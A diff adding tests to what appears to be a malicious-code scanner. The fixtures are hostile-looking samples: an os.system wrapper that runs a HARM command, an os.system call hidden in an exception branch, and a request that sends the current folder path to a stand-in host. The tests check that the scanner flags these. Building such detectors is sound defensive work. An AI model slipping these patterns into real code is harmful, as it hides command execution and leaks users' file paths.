@@ -162,3 +162,36 @@ def test_whatever_a_function_is_handed_that_nobody_calls() -> None:
     text += "    requests.post('{}', json={{'a': given[0], 'b': more}})\n"
     program = program_of("wheel", {EARLY: text.format("https://a.example.invalid/")})
     assert {one.kind for flow in program.flows for one in flow.carries} == {"argument"}
+
+
+WRAPPED = """import os
+
+def seen(plain):
+    def system(*given):
+        {}
+        return plain(*given)
+
+    return system
+
+os.system = seen(os.system)
+"""
+
+
+def test_what_hands_on_what_it_was_handed_starts_nothing_itself() -> None:
+    for check in ("import-process", "unreadable", "attack-command"):
+        assert worst(check, WRAPPED.format("print(given)"), EARLY) is None
+    harm = WRAPPED.format(f"plain({HARM!r})")
+    assert worst("attack-command", harm, EARLY) is Severity.CRITICAL
+
+
+FOLDER = "import os, requests\nrequests.get(f'https://{}/repos/{{os.getcwd()}}')\n"
+
+
+def test_the_name_of_a_folder_may_say_what_is_asked_for() -> None:
+    assert worst("host-beacon", FOLDER.format("api.github.com"), EARLY) is Severity.MEDIUM
+    assert worst("host-beacon", FOLDER.format("a.example.invalid"), EARLY) is Severity.CRITICAL
+
+
+def test_a_method_that_a_text_does_not_have() -> None:
+    text = f"import os\ntry:\n    'ab'.hex()\nexcept AttributeError:\n    os.system({HARM!r})\n"
+    assert worst("attack-command", text, EARLY) is Severity.CRITICAL
